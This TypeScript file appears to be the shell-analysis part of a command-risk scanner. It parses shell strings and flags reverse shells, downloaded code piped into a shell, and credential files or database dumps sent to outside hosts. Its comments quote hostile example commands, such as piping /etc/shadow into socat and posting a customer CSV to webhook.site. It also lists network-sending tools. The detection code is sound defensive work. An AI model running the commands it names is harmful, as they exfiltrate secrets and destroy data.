// Shell analysis: parses a command string with the real shell parser (mvdan-sh, the parser of
// shfmt) and walks every statement, through lists (`;`, `&&`, `||`), pipes, subshells, blocks,
// functions, loops, command and process substitution, and into strings run by `bash -c`, `sh -c`,
// `eval`, `ssh`, `watch`, aliases and interpreter code. Commands go to the rules of
// shell-commands.ts; pipes and redirections are judged here. A string the parser rejects is high
// and gets a token-level scan of its fragments, so a critical pattern is not lost.

import { quote } from './findings.ts';
import { isBlockDevice, normalizePath, sensitiveFile } from './paths.ts';
import { secretFile } from './secret-files.ts';
import { printsFiles } from './shell-secret-reads.ts';
import { historyAssignment } from './shell-protection-rules.ts';
import { MAX_CALL_DEPTH, MAX_LOOP_ITEMS, positionalBindings, withBindings } from './shell-bindings.ts';
import type { RiskAssessment } from './risk-class.ts';
import { analyzeCommand } from './shell-commands.ts';
import { codeRule, writeTarget } from './shell-rule-context.ts';
import {
  joinSummaries,
  MAX_SHELL_CHARS,
  MAX_SHELL_DEPTH,
  MAX_SHELL_PARSE_CHARS,
  MAX_SHELL_STEPS,
  plainSummary,
  ShellScan,
  summaryNames,
  type CommandSite,
  type CommandSummary,
  type Redirection,
} from './shell-scan.ts';
import { WordEvaluator, type SubstitutionResult, type Word } from './shell-words.ts';
import { shellFallback } from './shell-fallback.ts';
import { parseShell, ShellSyntaxError, walkShell, type ShellNode } from './shell-ast.ts';

/** Pipe operators of mvdan-sh's BinaryCmd (`|`, `|&`); 10 and 11 are `&&` and `||`. */
const PIPE_OPS = new Set([12, 13]);
/** Redirections that write (`>`, `>>`, `<>`, `>|`, `&>`, `&>>`; `>&` to a file). */
const WRITE_OPS = new Set([54, 55, 57, 60, 64, 65]);
const READ_OPS = new Set([56, 57]);
/** Commands that pass their input through, so downloaded content stays downloaded. */
const PASS_THROUGH = new Set([
  'tee',
  'cat',
  'base64',
  'gunzip',
  'gzip',
  'zcat',
  'tr',
  'sed',
  'awk',
  'xxd',
  'head',
  'tail',
  'dos2unix',
  'bunzip2',
  'xz',
  'openssl',
  'gpg',
  'rev',
]);
/** Commands that send their standard input over the network. */
const STDIN_SENDERS = new Set([
  'nc',
  'ncat',
  'netcat',
  'socat',
  'telnet',
  'openssl',
  'curl',
  'wget',
  'ssh',
  'mail',
  'mailx',
  'sendmail',
  'cryptcat',
  'ftp',
  'tftp',
  'xh',
  'http',
  'https',
  'dig',
  'nslookup',
  'host',
  'scp',
  'rsync',
  'gsutil',
  'aws',
  'rclone',
]);
/** Programs that print a whole database. */
const DATABASE_DUMPERS = new Set(['pg_dump', 'pg_dumpall', 'mysqldump', 'mariadb-dump', 'mongodump', 'mongoexport', 'sqlcmd', 'bcp']);
/** Senders that hand their input to an arbitrary host (not a backup channel such as ssh, aws or rclone). */
const RAW_SENDERS = new Set([
  'nc',
  'ncat',
  'netcat',
  'socat',
  'telnet',
  'curl',
  'wget',
  'xh',
  'http',
  'https',
  'ftp',
  'tftp',
  'cryptcat',
  'mail',
  'mailx',
  'sendmail',
]);

/** Plain commands with no shell syntax: split at spaces without the parser. */
const SIMPLE_COMMAND = /^[\w./:=,@%+\- ]*$/;

/** Analyses one shell command string: findings of every rule that fired (no baseline). */
export function analyzeShell(source: string): RiskAssessment {
  const scan = new ShellScan();
  scan.nested = (nestedSource: string, via: string) => {
    if (scan.depth >= MAX_SHELL_DEPTH) {
      scan.add('high', `shell: commands nested too deep to analyse (via ${via})`);
      return;
    }
    scan.depth += 1;
    try {
      scanSource(nestedSource, scan);
    } finally {
      scan.depth -= 1;
    }
  };
  scanSource(source, scan);
  const result = scan.findings.assessment('high');
  const names = scan.commandNames.map((name) => `\`${name}\``).join(', ');
  result.reasons.push(
    names === '' ? 'shell: command execution is at least high' : `shell: runs ${names} (command execution is at least high)`,
  );
  return result;
}

function scanSource(source: string, scan: ShellScan): void {
  let text = source;
  if (text.length > MAX_SHELL_CHARS) {
    scan.add('high', 'shell: command longer than 64 KB, only its start analysed');
    text = text.slice(0, MAX_SHELL_CHARS);
  }
  if (text.trim() === '') return;
  if (text.length > MAX_SHELL_PARSE_CHARS) {
    // Parse the first 8 KB (up to a line end) and scan the rest by tokens: long input cannot
    // make the parser slow, and a critical pattern in the tail is still found.
    const cut = text.lastIndexOf('\n', MAX_SHELL_PARSE_CHARS);
    const head = cut > MAX_SHELL_PARSE_CHARS / 2 ? cut : MAX_SHELL_PARSE_CHARS;
    scan.add('high', 'shell: command longer than 8 KB, its tail scanned by tokens only');
    shellFallback(text.slice(head), scan);
    text = text.slice(0, head);
  }
  if (SIMPLE_COMMAND.test(text)) {
    const argv = text.split(' ').filter(Boolean).map(literalWord);
    analyzeCommand(argv, emptySite(), scan);
    return;
  }
  let file: ShellNode;
  try {
    file = parseShell(text);
  } catch (error) {
    const message = error instanceof Error ? error.message : String(error);
    scan.add(
      'high',
      error instanceof ShellSyntaxError
        ? `shell: could not parse the command (${message.slice(0, 80)}), treated as high`
        : `shell: command too complex to analyse (${message.slice(0, 80)}), treated as high`,
    );
    shellFallback(text, scan);
    return;
  }
  // Assignments, and `set --` (the positional parameters `"$@"` expands to).
  if (text.includes('=') || text.includes('set --')) collectVariables(file, scan);
  const walker = new Walker(scan);
  walker.statements(file.Stmts, emptySite());
  if (walker.interactiveInterpreter !== undefined) {
    // `tclsh` or `jjs` followed by lines of their own language: read those lines as its code.
    codeRule({ name: walker.interactiveInterpreter, scan }, text);
  }
}

/** A command whose first word expands to text holding shell operators (`$(echo … | base64 -d)` giving `curl … | sh`). */
function runTimeCommandText(first: ShellNode | undefined, argv: Word[]): string | undefined {
  const parts: ShellNode[] = first?.Parts ?? [];
  if (!parts.some((part) => part.type === 'CmdSubst' || part.type === 'ParamExp')) return undefined;
  if (argv.length === 0 || argv.some((word) => word.dynamic)) return undefined;
  const text = argv.map((word) => word.text).join(' ');
  return /[|;&<>`]|\$\(/.test(text) && text.length <= 8192 ? text : undefined;
}

/** A word known literally. */
export function literalWord(text: string): Word {
  return { text, dynamic: false, fromDownload: false, splitsOnIfs: false, processSubstitution: false };
}

function emptySite(): CommandSite {
  return { redirs: [], inPipe: false, background: false, stdinFromDownload: false };
}

/** Records variables assigned a literal anywhere in the script (`body='/etc/passwd'`). */
function collectVariables(file: ShellNode, scan: ShellScan): void {
  const evaluator = new WordEvaluator(scan.vars, () => ({ fromDownload: false }));
  walkShell(file, (node) => {
    if (node.type === 'Assign' && node.Name && node.Array && !node.Append) {
      // `a=(rm -rf /)`: an array used as a command line (`"${a[@]}"`).
      const items = (node.Array.Elems ?? []).map((elem: ShellNode) => (elem.Value ? evaluator.word(elem.Value) : undefined));
      if (items.every((item: { dynamic: boolean } | undefined) => item !== undefined && !item.dynamic))
        scan.vars.set(`${node.Name.Value}[@]`, items.map((item: { text: string }) => item.text).join(' '));
      return false;
    }
    if (node.type === 'Assign' && node.Name && node.Value && !node.Append) {
      const value = evaluator.word(node.Value);
      if (!value.dynamic) scan.vars.set(node.Name.Value, value.text);
      return false;
    }
    if (node.type === 'CallExpr') positionalParameters(node.Args ?? [], evaluator, scan.vars);
    return true;
  });
}

/**
 * `set -- rm -rf /` gives the script's positional parameters literal values, which `"$@"` expands to
 * (one word each). An unquoted word is split at a non-blank IFS the script set (`IFS=,; set -- rm,-rf,/`).
 */
function positionalParameters(args: ShellNode[], evaluator: WordEvaluator, vars: Map<string, string>): void {
  if (args.length < 3) return;
  const literal = (node: ShellNode): string | undefined =>
    node.Parts?.length === 1 && node.Parts[0].type === 'Lit' ? String(node.Parts[0].Value) : undefined;
  if (literal(args[0]) !== 'set' || literal(args[1]) !== '--') return;
  const ifs = vars.get('IFS');
  const separator = ifs !== undefined && ifs.length === 1 && !/\s/.test(ifs) ? ifs : undefined;
  const words: string[] = [];
  for (const node of args.slice(2)) {
    const word = evaluator.word(node);
    if (word.dynamic) return;
    if (separator !== undefined && literal(node) !== undefined) words.push(...word.text.split(separator).filter(Boolean));
    else words.push(word.text);
  }
  vars.set('@', words.join(' '));
}

class Walker {
  readonly evaluator: WordEvaluator;
  interactiveInterpreter: string | undefined;

  constructor(private readonly scan: ShellScan) {
    this.evaluator = new WordEvaluator(scan.vars, (stmts) => this.substitution(stmts));
  }

  statements(stmts: ShellNode[] | null, site: CommandSite): CommandSummary[] {
    const out: CommandSummary[] = [];
    if (!stmts) return out;
    for (const stmt of stmts) out.push(this.statement(stmt, site));
    return out;
  }

  /** A command or process substitution: its findings, and what its output is. */
  private substitution(stmts: ShellNode[]): SubstitutionResult {
    const summaries = this.statements(stmts, emptySite());
    const result: SubstitutionResult = { fromDownload: summaries.some((summary) => summary.downloader) };
    const sensitive = summaries.find((summary) => summary.readsSensitive !== undefined)?.readsSensitive;
    if (sensitive !== undefined) result.sensitiveRead = `${sensitive.why} ${quote(sensitive.path)}`;
    // Output known as text: echo and printf of literals, and what a decoder made of them (`$(echo … | base64 -d)`).
    if (summaries.length === 1 && summaries[0].output !== undefined && !summaries[0].downloader) {
      result.output = summaries[0].output;
    }
    return result;
  }

  statement(stmt: ShellNode, outer: CommandSite): CommandSummary {
    const scan = this.scan;
    if (++scan.steps > MAX_SHELL_STEPS) {
      if (scan.steps === MAX_SHELL_STEPS + 1) scan.add('high', 'shell: script too large to analyse fully');
      return plainSummary('');
    }
    const redirs = this.redirections(stmt.Redirs);
    const site: CommandSite = {
      redirs,
      inPipe: outer.inPipe,
      background: outer.background || Boolean(stmt.Background),
      stdinText: outer.stdinText,
      stdinFromDownload: outer.stdinFromDownload,
    };
    for (const redirect of redirs) {
      if (redirect.heredoc !== undefined) site.stdinText = redirect.heredoc;
      else if (redirect.op === 63) site.stdinText = redirect.target.text;
      if (redirect.target.fromDownload && (redirect.op === 56 || redirect.op === 63)) site.stdinFromDownload = true;
    }
    const cmd = stmt.Cmd;
    let summary: CommandSummary;
    let fdSetup = false;
    if (cmd === null || cmd === undefined) {
      summary = plainSummary('');
    } else {
      switch (cmd.type) {
        case 'CallExpr': {
          for (const assign of cmd.Assigns ?? []) {
            if (assign.Value) this.evaluator.word(assign.Value);
            const name: string = assign.Name?.Value ?? '';
            if (name.startsWith('HIST') && assign.Value) historyAssignment(scan, `${name}=${this.evaluator.word(assign.Value).text}`);
            else if (name.startsWith('HIST') && !assign.Value) historyAssignment(scan, `${name}=`);
            if (name === 'LD_PRELOAD' || name === 'LD_LIBRARY_PATH' || name === 'PROMPT_COMMAND') {
              scan.add('high', `shell: sets ${name}, which changes what later commands run`);
            }
          }
          const argv: Word[] = [];
          for (const node of cmd.Args ?? []) {
            const word = this.evaluator.word(node);
            if (word.splitsOnIfs)
              argv.push(
                ...word.text
                  .split(' ')
                  .filter(Boolean)
                  .map((text) => ({ ...word, text })),
              );
            else argv.push(word);
          }
          fdSetup = argv.length === 1 && argv[0].text === 'exec';
          if (argv.length === 0) this.assignAtRunTime(cmd.Assigns ?? []);
          const built = runTimeCommandText(cmd.Args?.[0], argv);
          if (built !== undefined) scan.nested(built, 'a command line built at run time');
          summary = analyzeCommand(argv, site, scan);
          // A call of the script's own function with literal arguments: its body under those values (`nuke /`).
          const body = argv.length > 1 && !argv[0].dynamic ? scan.functions.get(argv[0].text) : undefined;
          if (
            body !== undefined &&
            !scan.functionStack.includes(argv[0].text) &&
            scan.functionStack.length < MAX_CALL_DEPTH &&
            argv.slice(1).every((word) => !word.dynamic)
          ) {
            scan.functionStack.push(argv[0].text);
            try {
              withBindings(scan.vars, positionalBindings(argv.slice(1).map((word) => word.text)), () => this.statement(body, emptySite()));
            } finally {
              scan.functionStack.pop();
            }
          }
          if (
            summary.interpreterStdin !== undefined &&
            !site.inPipe &&
            site.stdinText === undefined &&
            !redirs.some((redirect) => READ_OPS.has(redirect.op) || redirect.op === 58)
          ) {
            this.interactiveInterpreter = summary.interpreterStdin;
          }
          break;
        }
        case 'BinaryCmd':
          if (PIPE_OPS.has(cmd.Op)) summary = this.pipeline(cmd, site);
          else summary = joinSummaries([this.statement(cmd.X, site), this.statement(cmd.Y, { ...site, stdinText: undefined })]);
          break;
        case 'Subshell':
        case 'Block':
          summary = joinSummaries(this.statements(cmd.Stmts, site));
          break;
        case 'IfClause':
          summary = joinSummaries(this.ifClause(cmd, site));
          break;
        case 'WhileClause':
          summary = joinSummaries([...this.statements(cmd.Cond, site), ...this.statements(cmd.Do, site)]);
          break;
        case 'ForClause': {
          const items: Word[] = [];
          if (cmd.Loop && cmd.Loop.type === 'WordIter') for (const item of cmd.Loop.Items ?? []) items.push(this.evaluator.word(item));
          summary = joinSummaries(this.statements(cmd.Do, site));
          // The body again with the variable bound to each literal item (`for d in /*; do rm -rf "$d"`).
          const name: string = cmd.Loop?.Name?.Value ?? '';
          const values = [...new Set(items.filter((item) => !item.dynamic).flatMap((item) => item.text.split(/\s+/)))].filter(Boolean);
          if (name !== '' && values.length > 0)
            for (const value of values.slice(0, MAX_LOOP_ITEMS))
              withBindings(scan.vars, [[name, value]], () => this.statements(cmd.Do, site));
          break;
        }
        case 'CaseClause': {
          this.evaluator.word(cmd.Word);
          const all: CommandSummary[] = [];
          for (const item of cmd.Items ?? []) all.push(...this.statements(item.Stmts, site));
          summary = joinSummaries(all);
          break;
        }
        case 'FuncDecl': {
          const name: string = cmd.Name?.Value ?? '';
          const prefix = this.forwardingPrefix(cmd.Body);
          // `f(){ "$@"; }; f dd …`: the function runs its arguments, so a call is read as that command.
          if (prefix !== undefined && !scan.aliases.has(name)) scan.aliases.set(name, prefix);
          if (cmd.Body && !scan.functions.has(name)) scan.functions.set(name, cmd.Body);
          scan.functionStack.push(name);
          try {
            this.statement(cmd.Body, emptySite());
          } finally {
            scan.functionStack.pop();
          }
          summary = plainSummary('');
          break;
        }
        case 'DeclClause':
          for (const assign of cmd.Args ?? []) if (assign.Value) this.evaluator.word(assign.Value);
          summary = plainSummary(cmd.Variant?.Value ?? 'declare');
          break;
        case 'TimeClause':
        case 'CoprocClause':
          summary = cmd.Stmt ? this.statement(cmd.Stmt, site) : plainSummary('');
          break;
        default:
          this.nestedSubstitutions(cmd);
          summary = plainSummary('');
      }
    }
    this.judgeRedirections(redirs, summary, fdSetup);
    return summary;
  }

  /** `c=$(echo … | base64 -d)`: a variable assigned text known only once the substitution ran. */
  private assignAtRunTime(assigns: ShellNode[]): void {
    for (const assign of assigns) {
      const name: string = assign.Name?.Value ?? '';
      if (name === '' || !assign.Value || assign.Append || assign.Array || this.scan.vars.has(name)) continue;
      const value = this.evaluator.word(assign.Value);
      if (!value.dynamic) this.scan.vars.set(name, value.text);
    }
  }

  /** The words before `"$@"` when a function's body only runs its arguments (`sudo "$@"`), else undefined. */
  private forwardingPrefix(body: ShellNode | undefined): string | undefined {
    const block = body?.Cmd?.type === 'Block' ? body.Cmd.Stmts : body ? [body] : [];
    if (!block || block.length !== 1) return undefined;
    const call = block[0].Cmd;
    if (call?.type !== 'CallExpr' || (call.Args ?? []).length === 0) return undefined;
    const words: string[] = [];
    for (const node of call.Args) words.push(this.evaluator.word(node).text);
    const last = words.pop();
    if (last !== '$@' && last !== '$*') return undefined;
    return words.some((word) => word.includes('$')) ? undefined : words.join(' ');
  }

  private ifClause(cmd: ShellNode, site: CommandSite): CommandSummary[] {
    const out = [...this.statements(cmd.Cond, site), ...this.statements(cmd.Then, site)];
    if (cmd.Else) out.push(...this.ifClause(cmd.Else, site));
    return out;
  }

  /** Finds `$(…)` and `<(…)` inside test and arithmetic commands. */
  private nestedSubstitutions(node: ShellNode): void {
    walkShell(node, (child) => {
      const type = child.type;
      if (type === 'CmdSubst' || type === 'ProcSubst') {
        this.substitution(child.Stmts ?? []);
        return false;
      }
      return true;
    });
  }

  private redirections(redirs: ShellNode[] | null): Redirection[] {
    const out: Redirection[] = [];
    if (!redirs) return out;
    for (const redirect of redirs) {
      const entry: Redirection = { op: redirect.Op, target: this.evaluator.word(redirect.Word) };
      if (redirect.N) entry.fd = redirect.N.Value;
      if (redirect.Hdoc) entry.heredoc = this.evaluator.word(redirect.Hdoc).text;
      out.push(entry);
    }
    return out;
  }

  /** Judges a statement's redirections once its command is known. */
  private judgeRedirections(redirs: Redirection[], summary: CommandSummary, fdSetup: boolean): void {
    const scan = this.scan;
    for (const redirect of redirs) {
      const target = redirect.target.text;
      const duplicate = (redirect.op === 58 || redirect.op === 59) && /^(?:\d+|-)$/.test(target);
      const network = /^\/dev\/(?:tcp|udp)\//.test(target) || (duplicate && scan.netFds.has(target));
      const socketFd = duplicate ? false : (redirect.op === 58 || redirect.op === 59) && scan.netOpened;
      if (network || (socketFd && (summary.shell || summary.interpreterStdin !== undefined))) {
        if (summary.shell || summary.interpreterStdin !== undefined) {
          scan.add('critical', `shell: reverse shell, ${summary.name || 'a shell'} wired to ${quote(target)}`);
        } else if ((WRITE_OPS.has(redirect.op) || redirect.op === 59) && summary.readsSensitive !== undefined) {
          scan.add('critical', `shell: sends ${summary.readsSensitive.why} ${quote(summary.readsSensitive.path)} to ${quote(target)}`);
        } else if (fdSetup) {
          scan.netFds.add(redirect.fd ?? (redirect.op === 56 ? '0' : '1'));
          scan.netOpened = true;
          scan.add('high', `shell: opens a network socket (${quote(target)})`);
        } else {
          // `cat <&3` with fd 3 a socket prints what the network sends: a download, for the pipe that follows (`| sh`).
          if (redirect.op === 58 || redirect.op === 56) summary.downloader = true;
          scan.add('high', `shell: raw network connection through ${quote(target)}`);
        }
        continue;
      }
      if (duplicate) continue;
      if (WRITE_OPS.has(redirect.op) || redirect.op === 59) {
        if (summary.output !== undefined && summary.output.length > 16) {
          // Text written to a file is often a program run next (`echo '…' > x.go; go run x.go`).
          codeRule({ name: `text written to ${target}`, scan }, summary.output, false);
        }
        writeTarget(
          { scan },
          target,
          `redirect ${summary.name || 'output'} >`,
          redirect.op === 55 || redirect.op === 65 ? '>>' : '>',
          summary.output,
        );
        // What lands in the file is remembered: a secret copied there, or a script run next.
        if (summary.readsSensitive !== undefined) scan.secretCopies.set(normalizePath(target), summary.readsSensitive.why);
        if (summary.output !== undefined) scan.writtenFiles.set(normalizePath(target), summary.output);
        if (isBlockDevice(target)) scan.add('critical', `shell: writes raw data to device ${quote(target)}`);
      }
      // `base64 < ~/.ssh/id_ed25519`: a reader's input is what it prints, unless its output goes to a file.
      if (READ_OPS.has(redirect.op) && printsFiles(summary.name) && !redirs.some((other) => WRITE_OPS.has(other.op))) {
        const secret = secretFile(target);
        if (secret !== undefined) scan.add('critical', `shell: prints a ${secret} ${quote(target)} (${summary.name} < file)`);
      }
      if (READ_OPS.has(redirect.op) && summary.readsSensitive === undefined) {
        const why = sensitiveFile(target);
        if (why !== undefined) {
          summary.readsSensitive = { path: target, why };
          // `while read l; do curl -d "$l" …; done < /etc/passwd`: the loop's input goes out.
          const sender = summaryNames(summary).find((name) => STDIN_SENDERS.has(name));
          if (sender !== undefined && summaryNames(summary).length > 1)
            scan.add('critical', `shell: sends ${why} ${quote(target)} over the network (loop reading it runs ${sender})`);
          // `socat - TCP:host:80 < /etc/shadow`: the file is the sender's input.
          else if (summary.netClient !== undefined && (why === 'credential file' || secretFile(target) !== undefined))
            scan.add('critical', `shell: sends ${why} ${quote(target)} over the network (${summary.netClient} < file)`);
        }
      }
      if (redirect.heredoc !== undefined && summary.interpreterStdin === undefined && redirect.heredoc.length > 16) {
        codeRule({ name: `heredoc of ${summary.name || 'a command'}`, scan }, redirect.heredoc, false);
      }
    }
  }

  /** A pipeline `a | b | c`: each element sees what the previous one prints. */
  private pipeline(cmd: ShellNode, site: CommandSite): CommandSummary {
    const elements: ShellNode[] = [];
    const flatten = (node: ShellNode): void => {
      if (node.Cmd && node.Cmd.type === 'BinaryCmd' && PIPE_OPS.has(node.Cmd.Op) && (node.Redirs?.length ?? 0) === 0) {
        flatten(node.Cmd.X);
        flatten(node.Cmd.Y);
      } else {
        elements.push(node);
      }
    };
    flatten(cmd.X);
    flatten(cmd.Y);
    const summaries: CommandSummary[] = [];
    let stdinText = site.stdinText;
    let stdinFromDownload = site.stdinFromDownload;
    for (const element of elements) {
      const summary = this.statement(element, { ...site, inPipe: true, stdinText, stdinFromDownload });
      summaries.push(summary);
      stdinFromDownload = summary.downloader || (stdinFromDownload && PASS_THROUGH.has(summary.name));
      stdinText = summary.output;
    }
    const client = summaries.find((summary) => summary.netClient !== undefined);
    const shell = summaries.find((summary) => summary.interpreterStdin !== undefined);
    if (client !== undefined && shell !== undefined) {
      this.scan.add('critical', `shell: reverse shell, ${shell.name} piped to and from ${client.netClient}`);
    }
    for (let i = 0; i < summaries.length; i++) {
      const read = summaries[i].readsSensitive;
      if (read === undefined) continue;
      const sender = summaries
        .slice(i + 1)
        .flatMap(summaryNames)
        .find((name) => STDIN_SENDERS.has(name));
      if (sender !== undefined) {
        this.scan.add('critical', `shell: sends ${read.why} ${quote(read.path)} over the network (${summaries[i].name} | ${sender})`);
      }
    }
    // `pg_dump prod | gzip | curl -T - https://…`: the whole database streamed to another host.
    const dumper = summaries.findIndex((summary) => summaryNames(summary).some((name) => DATABASE_DUMPERS.has(name)));
    const dumpSender =
      dumper < 0
        ? undefined
        : summaries
            .slice(dumper + 1)
            .flatMap(summaryNames)
            .find((name) => RAW_SENDERS.has(name));
    if (dumpSender !== undefined)
      this.scan.add('critical', `shell: sends a database dump over the network (${summaries[dumper].name} | ${dumpSender})`);
    // `pg_dump … | gzip | ssh me@home.dyndns.org 'cat > d.gz'`, `cat exports/customers.csv | curl -d @- https://webhook.site/…`:
    // records in bulk streamed to a host nobody here owns (ssh is a backup channel, but not to such a host).
    const source = dumpSender !== undefined ? -1 : summaries.findIndex((summary, i) => i === dumper || summary.readsBulk !== undefined);
    const foreign = source < 0 ? undefined : summaries.slice(source + 1).find((summary) => summary.foreignHost !== undefined);
    if (foreign !== undefined)
      this.scan.add(
        'critical',
        `shell: sends ${summaries[source].readsBulk ?? 'a database dump'} to a ${foreign.foreignHost} (${summaries[source].name} | ${foreign.name})`,
      );
    const joined = joinSummaries(summaries);
    joined.output = summaries[summaries.length - 1]?.output;
    joined.downloader = stdinFromDownload;
    return joined;
  }
}
